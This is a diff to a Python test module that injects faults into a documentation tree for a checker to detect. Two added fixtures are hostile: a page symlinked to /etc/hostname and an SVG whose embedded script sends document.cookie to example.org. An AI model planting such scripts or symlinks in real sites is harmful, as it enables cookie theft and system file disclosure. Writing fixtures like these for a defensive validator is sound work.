@@ -102,6 +102,21 @@ def script_tag(root: Path) -> tuple[str, int, str]:
     return ("docs/nb/ordliste.md", line_of(page, "<script"), "HB010")
 
 
+def symlinked_page(root: Path) -> tuple[str, int, str]:
+    (root / "docs/nb/om/maskin.md").symlink_to("/etc/hostname")
+    return ("docs/nb/om/maskin.md", 1, "HB012")
+
+
+def script_in_svg(root: Path) -> tuple[str, int, str]:
+    image = root / "docs/nb/om/figur.svg"
+    image.write_text(
+        '<svg xmlns="http://www.w3.org/2000/svg">\n<rect width="1" height="1"/>\n'
+        "<script>fetch('https://example.org/'+document.cookie)</script>\n</svg>\n",
+        encoding="utf-8",
+    )
+    return ("docs/nb/om/figur.svg", line_of(image, "<script"), "HB012")
+
+
 FAULTS: list[Callable[[Path], tuple[str, int, str]]] = [
     delete_page,
     relation_to_missing_id,
@@ -111,6 +126,8 @@ FAULTS: list[Callable[[Path], tuple[str, int, str]]] = [
     dropped_translation,
     broken_anchor,
     script_tag,
+    symlinked_page,
+    script_in_svg,
 ]
 
 
